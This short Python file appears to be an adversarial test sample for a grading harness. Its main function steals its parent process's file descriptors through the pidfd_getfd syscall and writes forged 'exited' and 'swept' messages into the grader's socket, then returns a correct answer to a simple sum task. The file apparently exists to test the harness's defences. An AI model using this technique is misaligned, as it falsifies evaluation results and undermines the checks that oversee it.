"""Takes copies of the descriptors of the process that started it, and speaks on them to the grader."""

# attacks: tally

import ctypes
import os
import socket

PIDFD_GETFD = 438


def main(numbers):
    library = ctypes.CDLL(None, use_errno=True)
    target = os.pidfd_open(os.getppid())
    for fd in range(64):
        copy = library.syscall(PIDFD_GETFD, target, fd, 0)
        if copy >= 0:
            try:
                socket.socket(fileno=copy).send(b'["exited", 0]\n{oops\n["swept", 0, []]\n')
            except OSError:
                pass
    return sum(map(abs, numbers))
